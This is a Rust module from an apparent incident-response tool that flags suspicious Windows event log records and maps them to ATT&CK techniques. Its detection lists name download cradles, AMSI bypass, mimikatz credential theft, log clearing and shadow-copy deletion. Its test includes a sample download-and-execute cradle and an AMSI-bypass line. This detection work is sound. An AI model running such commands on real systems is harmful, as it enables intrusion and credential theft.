//! Analytics of single records that matter in an incident: new services (7045/4697), scheduled
//! tasks (4698, TaskScheduler 106), cleared logs (1102/104), Defender detections (1116/1117) and
//! tampering (5001/5010/5012/5013), and PowerShell script blocks (4104) with offensive content.
//!
//! Findings are grouped so that a noisy log gives a readable report: one finding per service
//! (host, name), per task, per cleared log (host, channel), per threat (host, name), per
//! PowerShell indicator (host, indicator), each citing its first records.

use std::collections::BTreeMap;

use chrono::{DateTime, Utc};
use ir110_model::{Category, Confidence, Finding, Message, Severity, SourceFile};

use crate::logon_analytics::Citations;
use crate::{ANALYZER_ID, WinEvent};

/// Caps the number of groups kept (per kind) so hostile logs cannot exhaust memory.
const MAX_GROUPS: usize = 10_000;

/// Substrings (lower case) of service binaries and task commands that attackers use and
/// administrators rarely do. Each comes with a short reason code shown in the finding data.
const SUSPICIOUS_COMMAND: &[(&str, &str)] = &[
    ("\\users\\public\\", "user-writable-folder"),
    ("\\appdata\\", "user-writable-folder"),
    ("\\temp\\", "temp-folder"),
    ("\\tmp\\", "temp-folder"),
    ("\\programdata\\", "programdata"),
    ("\\perflogs\\", "user-writable-folder"),
    ("\\downloads\\", "user-writable-folder"),
    ("\\$recycle.bin\\", "recycle-bin"),
    ("admin$", "admin-share"),
    ("c$\\", "admin-share"),
    ("%comspec%", "shell"),
    ("cmd.exe /c", "shell"),
    ("cmd /c", "shell"),
    ("cmd.exe /q", "shell"),
    ("powershell", "powershell"),
    ("pwsh", "powershell"),
    ("-encodedcommand", "encoded-command"),
    (" -enc ", "encoded-command"),
    ("frombase64string", "encoded-command"),
    ("rundll32", "lolbin"),
    ("regsvr32", "lolbin"),
    ("mshta", "lolbin"),
    ("certutil", "lolbin"),
    ("bitsadmin", "lolbin"),
    ("wscript", "script-host"),
    ("cscript", "script-host"),
    (".bat", "script-file"),
    (".ps1", "script-file"),
    (".vbs", "script-file"),
    (".js ", "script-file"),
    (".hta", "script-file"),
    ("psexesvc", "remote-execution-tool"),
    ("\\\\127.0.0.1\\", "loopback-share"),
    ("http://", "url"),
    ("https://", "url"),
];

/// PowerShell script-block indicators: (indicator, ATT&CK technique, substrings in lower case).
const POWERSHELL_INDICATORS: &[(&str, &str, &[&str])] = &[
    (
        "encoded-command",
        "T1027",
        &["-encodedcommand", " -enc ", " -ec ", "frombase64string("],
    ),
    (
        "download-cradle",
        "T1105",
        &[
            "downloadstring(",
            "downloadfile(",
            "downloaddata(",
            "net.webclient",
            "invoke-webrequest",
            "invoke-restmethod",
            "start-bitstransfer",
        ],
    ),
    (
        "amsi-bypass",
        "T1562.001",
        &[
            "amsiutils",
            "amsiinitfailed",
            "amsiscanbuffer",
            "amsicontext",
        ],
    ),
    (
        "credential-theft",
        "T1003.001",
        &[
            "invoke-mimikatz",
            "sekurlsa::",
            "lsadump::",
            "kerberos::",
            "invoke-kerberoast",
            "get-gpppassword",
            "out-minidump",
            "mimikatz",
        ],
    ),
    (
        "offensive-framework",
        "T1059.001",
        &[
            "invoke-shellcode",
            "invoke-reflectivepeinjection",
            "powersploit",
            "invoke-obfuscation",
            "invoke-bloodhound",
            "sharphound",
            "invoke-smbexec",
            "invoke-wmiexec",
            "invoke-thehash",
            "powercat",
            "invoke-powershelltcp",
            "get-netdomaintrust",
        ],
    ),
    (
        "defender-tampering",
        "T1562.001",
        &[
            "disablerealtimemonitoring",
            "add-mppreference -exclusion",
            "set-mppreference -disable",
        ],
    ),
    (
        "log-clearing",
        "T1070.001",
        &[
            "clear-eventlog",
            "wevtutil cl",
            "wevtutil.exe cl",
            "remove-eventlog",
        ],
    ),
    (
        "shadow-copy-deletion",
        "T1490",
        &["delete shadows", "win32_shadowcopy", "resize shadowstorage"],
    ),
];

/// The PowerShell indicators found in a script block (lower-cased internally).
pub fn powershell_indicators(script: &str) -> Vec<&'static str> {
    let lower = script.to_ascii_lowercase();
    POWERSHELL_INDICATORS
        .iter()
        .filter(|(_, _, needles)| needles.iter().any(|n| lower.contains(n)))
        .map(|(name, _, _)| *name)
        .collect()
}

/// Why a service binary or task command looks malicious (sorted, unique reason codes).
pub fn suspicious_command_reasons(command: &str) -> Vec<&'static str> {
    let lower = command.to_ascii_lowercase();
    let mut reasons: Vec<&'static str> = SUSPICIOUS_COMMAND
        .iter()
        .filter(|(needle, _)| lower.contains(needle))
        .map(|(_, reason)| *reason)
        .collect();
    reasons.sort_unstable();
    reasons.dedup();
    reasons
}

/// One group of records behind a finding.
#[derive(Debug, Default)]
struct Group {
    count: u64,
    first: Option<DateTime<Utc>>,
    last: Option<DateTime<Utc>>,
    cites: Citations,
    /// Facts of the first record (service binary, task command, threat path, script excerpt).
    facts: BTreeMap<String, String>,
    reasons: Vec<&'static str>,
}

impl Group {
    fn add(&mut self, file: usize, e: &WinEvent) {
        self.count += 1;
        let t = e.timestamp;
        self.first = Some(self.first.map_or(t, |f| f.min(t)));
        self.last = Some(self.last.map_or(t, |l| l.max(t)));
        self.cites.add_event(file, e);
    }

    fn merge(&mut self, other: Group) {
        self.count += other.count;
        for t in other.first.into_iter().chain(other.last) {
            self.first = Some(self.first.map_or(t, |f| f.min(t)));
            self.last = Some(self.last.map_or(t, |l| l.max(t)));
        }
        self.cites.merge(&other.cites);
        for (k, v) in other.facts {
            self.facts.entry(k).or_insert(v);
        }
        for r in other.reasons {
            if !self.reasons.contains(&r) {
                self.reasons.push(r);
            }
        }
    }
}

/// Kinds of activity groups, in report order.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Kind {
    LogCleared,
    DefenderTampering,
    DefenderDetection,
    Service,
    Task,
    PowerShell,
}

/// Accumulates notable records; see the module documentation.
#[derive(Debug, Default)]
pub struct ActivityAnalytics {
    groups: BTreeMap<(Kind, String, String), Group>,
}

/// `value` cut to `max` characters.
fn excerpt(value: &str, max: usize) -> String {
    let mut out: String = value.chars().take(max).collect();
    if out.len() < value.len() {
        out.push('…');
    }
    out
}

impl ActivityAnalytics {
    /// Takes one record into account.
    pub fn observe(&mut self, file: usize, e: &WinEvent) {
        let host = e.computer.clone();
        let ch = e.channel.as_str();
        let (kind, name, facts): (Kind, String, Vec<(&str, String)>) = match e.event_id {
            7045 if ch.eq_ignore_ascii_case("System") => {
                let image = e.get("ImagePath").unwrap_or_default().to_owned();
                (
                    Kind::Service,
                    e.get("ServiceName").unwrap_or("?").to_owned(),
                    vec![
                        ("image_path", image),
                        (
                            "account",
                            e.get("AccountName").unwrap_or_default().to_owned(),
                        ),
                        (
                            "start_type",
                            e.get("StartType").unwrap_or_default().to_owned(),
                        ),
                    ],
                )
            }
            4697 if ch.eq_ignore_ascii_case("Security") => (
                Kind::Service,
                e.get("ServiceName").unwrap_or("?").to_owned(),
                vec![
                    (
                        "image_path",
                        e.get("ServiceFileName").unwrap_or_default().to_owned(),
                    ),
                    (
                        "account",
                        e.get("ServiceAccount").unwrap_or_default().to_owned(),
                    ),
                ],
            ),
            4698 if ch.eq_ignore_ascii_case("Security") => {
                let content = e.get("TaskContent").unwrap_or_default();
                (
                    Kind::Task,
                    e.get("TaskName").unwrap_or("?").to_owned(),
                    vec![
                        ("command", task_command(content)),
                        (
                            "user",
                            e.get("SubjectUserName").unwrap_or_default().to_owned(),
                        ),
                    ],
                )
            }
            106 if ch.contains("TaskScheduler") => (
                Kind::Task,
                e.get("TaskName").unwrap_or("?").to_owned(),
                vec![("user", e.get("UserContext").unwrap_or_default().to_owned())],
            ),
            1102 if ch.eq_ignore_ascii_case("Security") => (
                Kind::LogCleared,
                "Security".to_owned(),
                vec![("user", subject(e))],
            ),
            104 if ch.eq_ignore_ascii_case("System") && e.provider.contains("Eventlog") => (
                Kind::LogCleared,
                e.get("Channel").unwrap_or("System").to_owned(),
                vec![("user", subject(e))],
            ),
            1116 | 1117 | 1006 | 1007 if ch.contains("Windows Defender") => (
                Kind::DefenderDetection,
                e.get("Threat Name").unwrap_or("?").to_owned(),
                vec![
                    ("path", e.get("Path").unwrap_or_default().to_owned()),
                    (
                        "action",
                        e.get("Action Name").unwrap_or_default().to_owned(),
                    ),
                    (
                        "severity",
                        e.get("Severity Name").unwrap_or_default().to_owned(),
                    ),
                    (
                        "user",
                        e.get("Detection User").unwrap_or_default().to_owned(),
                    ),
                ],
            ),
            5001 | 5010 | 5012 | 5013 if ch.contains("Windows Defender") => {
                (Kind::DefenderTampering, e.event_id.to_string(), vec![])
            }
            4104 if ch.contains("PowerShell") => {
                let text = e.get("ScriptBlockText").unwrap_or_default();
                let found = powershell_indicators(text);
                if found.is_empty() {
                    return;
                }
                for indicator in found {
                    self.add(
                        (Kind::PowerShell, host.clone(), indicator.to_owned()),
                        file,
                        e,
                        vec![
                            ("excerpt", excerpt(text, 300)),
                            (
                                "script_block_id",
                                e.get("ScriptBlockId").unwrap_or_default().to_owned(),
                            ),
                        ],
                        Vec::new(),
                    );
                }
                return;
            }
            _ => return,
        };
        let reasons = facts
            .iter()
            .filter(|(k, _)| matches!(*k, "image_path" | "command"))
            .flat_map(|(_, v)| suspicious_command_reasons(v))
            .collect();
        self.add((kind, host, name), file, e, facts, reasons);
    }

    fn add(
        &mut self,
        key: (Kind, String, String),
        file: usize,
        e: &WinEvent,
        facts: Vec<(&str, String)>,
        reasons: Vec<&'static str>,
    ) {
        if self.groups.len() >= MAX_GROUPS && !self.groups.contains_key(&key) {
            return;
        }
        let g = self.groups.entry(key).or_default();
        let earliest = g.first.is_none_or(|f| e.timestamp < f);
        g.add(file, e);
        for (k, v) in facts {
            if earliest || !g.facts.contains_key(k) {
                g.facts.insert(k.to_owned(), v);
            }
        }
        for r in reasons {
            if !g.reasons.contains(&r) {
                g.reasons.push(r);
            }
        }
    }

    /// Merges another accumulator into this one.
    pub fn merge(&mut self, other: ActivityAnalytics) {
        for (k, g) in other.groups {
            self.groups.entry(k).or_default().merge(g);
        }
    }

    /// Draws the conclusions.
    pub fn findings(&self, files: &[SourceFile]) -> Vec<Finding> {
        let mut out = Vec::new();
        for ((kind, host, name), g) in &self.groups {
            let fact = |k: &str| g.facts.get(k).cloned().unwrap_or_default();
            let mut reasons = g.reasons.clone();
            reasons.sort_unstable();
            let suspicious = !reasons.is_empty();
            let key = format!("{host}\u{0}{name}");
            let mut f = match kind {
                Kind::Service => Finding::new(
                    ANALYZER_ID,
                    "eventlog.service-installed",
                    if suspicious {
                        Severity::High
                    } else {
                        Severity::Low
                    },
                    Category::Persistence,
                    Message::new("eventlog.service-installed.title")
                        .arg("service", name)
                        .arg("host", host),
                )
                .summary(
                    Message::new(if suspicious {
                        "eventlog.service-installed.summary-suspicious"
                    } else {
                        "eventlog.service-installed.summary"
                    })
                    .arg("service", name)
                    .arg("path", fact("image_path"))
                    .arg("reasons", reasons.join(", ")),
                )
                .attack("T1543.003")
                .action(
                    Message::new("eventlog.action.inspect-service")
                        .arg("service", name)
                        .arg("host", host),
                )
                .confidence(if suspicious {
                    Confidence::High
                } else {
                    Confidence::Low
                }),
                Kind::Task => Finding::new(
                    ANALYZER_ID,
                    "eventlog.task-created",
                    if suspicious {
                        Severity::High
                    } else {
                        Severity::Medium
                    },
                    Category::Persistence,
                    Message::new("eventlog.task-created.title")
                        .arg("task", name)
                        .arg("host", host),
                )
                .summary(
                    Message::new("eventlog.task-created.summary")
                        .arg("task", name)
                        .arg("command", fact("command"))
                        .arg("user", fact("user")),
                )
                .attack("T1053.005")
                .action(
                    Message::new("eventlog.action.inspect-task")
                        .arg("task", name)
                        .arg("host", host),
                )
                .confidence(if suspicious {
                    Confidence::High
                } else {
                    Confidence::Medium
                }),
                Kind::LogCleared => Finding::new(
                    ANALYZER_ID,
                    "eventlog.log-cleared",
                    Severity::High,
                    Category::DefenseEvasion,
                    Message::new("eventlog.log-cleared.title")
                        .arg("channel", name)
                        .arg("host", host),
                )
                .summary(
                    Message::new("eventlog.log-cleared.summary")
                        .arg("channel", name)
                        .arg("user", fact("user"))
                        .arg("count", g.count),
                )
                .attack("T1070.001")
                .action(Message::new("eventlog.action.collect-other-logs").arg("host", host))
                .confidence(Confidence::High),
                Kind::DefenderDetection => Finding::new(
                    ANALYZER_ID,
                    "eventlog.defender-detection",
                    Severity::High,
                    Category::Malware,
                    Message::new("eventlog.defender-detection.title")
                        .arg("threat", name)
                        .arg("host", host),
                )
                .summary(
                    Message::new("eventlog.defender-detection.summary")
                        .arg("threat", name)
                        .arg("path", fact("path"))
                        .arg("action", fact("action"))
                        .arg("count", g.count),
                )
                .action(Message::new("eventlog.action.isolate-host").arg("host", host))
                .confidence(Confidence::High),
                Kind::DefenderTampering => Finding::new(
                    ANALYZER_ID,
                    "eventlog.defender-tampering",
                    Severity::High,
                    Category::DefenseEvasion,
                    Message::new(format!("eventlog.defender-tampering.{name}")).arg("host", host),
                )
                .summary(Message::new("eventlog.defender-tampering.summary").arg("count", g.count))
                .attack("T1562.001")
                .action(Message::new("eventlog.action.restore-defender").arg("host", host))
                .confidence(Confidence::High),
                Kind::PowerShell => {
                    let technique = POWERSHELL_INDICATORS
                        .iter()
                        .find(|(n, _, _)| n == name)
                        .map_or("T1059.001", |(_, t, _)| *t);
                    let mut f = Finding::new(
                        ANALYZER_ID,
                        "eventlog.powershell-suspicious",
                        Severity::High,
                        Category::Execution,
                        Message::new(format!("eventlog.ps-indicator.{name}"))
                            .arg("host", host)
                            .arg("count", g.count),
                    )
                    .summary(
                        Message::new("eventlog.powershell-suspicious.summary")
                            .arg("excerpt", fact("excerpt")),
                    )
                    .attack("T1059.001")
                    .action(Message::new("eventlog.action.review-script").arg("host", host))
                    .confidence(Confidence::Medium);
                    if technique != "T1059.001" {
                        f = f.attack(technique);
                    }
                    f.data("indicator", name.as_str())
                }
            };
            f = f.key(&key).host(host.clone()).data("count", g.count);
            for (k, v) in &g.facts {
                f = f.data(k, v.as_str());
            }
            if suspicious {
                f = f.data("reasons", reasons);
            }
            for t in g.first.into_iter().chain(g.last) {
                f.observe(t);
            }
            out.push(g.cites.cite(f, files));
        }
        out
    }
}

/// The user who did it (`SubjectDomainName\SubjectUserName`, or the `System/Security` user).
fn subject(e: &WinEvent) -> String {
    match (
        e.get_some("SubjectDomainName"),
        e.get_some("SubjectUserName"),
    ) {
        (Some(d), Some(u)) => format!("{d}\\{u}"),
        (None, Some(u)) => u.to_owned(),
        _ => e
            .field("Security_UserID")
            .map(|c| c.into_owned())
            .unwrap_or_default(),
    }
}

/// `<Command>` and `<Arguments>` of a task's XML definition (or the start of the XML).
fn task_command(xml: &str) -> String {
    let inner = |tag: &str| -> Option<String> {
        let open = format!("<{tag}>");
        let close = format!("</{tag}>");
        let start = xml.find(&open)? + open.len();
        let end = xml[start..].find(&close)? + start;
        Some(xml[start..end].trim().to_owned())
    };
    match (inner("Command"), inner("Arguments")) {
        (Some(c), Some(a)) => format!("{c} {a}"),
        (Some(c), None) => c,
        _ => excerpt(xml, 300),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn indicators_and_reasons() {
        assert_eq!(
            powershell_indicators(
                "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1'); Invoke-Mimikatz -DumpCreds"
            ),
            vec!["download-cradle", "credential-theft"]
        );
        assert_eq!(
            powershell_indicators(
                "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"
            ),
            vec!["amsi-bypass"]
        );
        assert!(powershell_indicators("Get-ChildItem C:\\ | Sort-Object Length").is_empty());
        assert_eq!(
            suspicious_command_reasons("C:\\Users\\Public\\svch0st.exe"),
            vec!["user-writable-folder"]
        );
        assert_eq!(
            suspicious_command_reasons("%COMSPEC% /C powershell -enc AAAA"),
            vec!["encoded-command", "powershell", "shell"]
        );
        assert!(
            suspicious_command_reasons("\"C:\\Program Files\\Vendor\\agent.exe\" -service")
                .is_empty()
        );
        assert_eq!(
            task_command("<Exec><Command>C:\\x.exe</Command><Arguments>-a</Arguments></Exec>"),
            "C:\\x.exe -a"
        );
    }
}
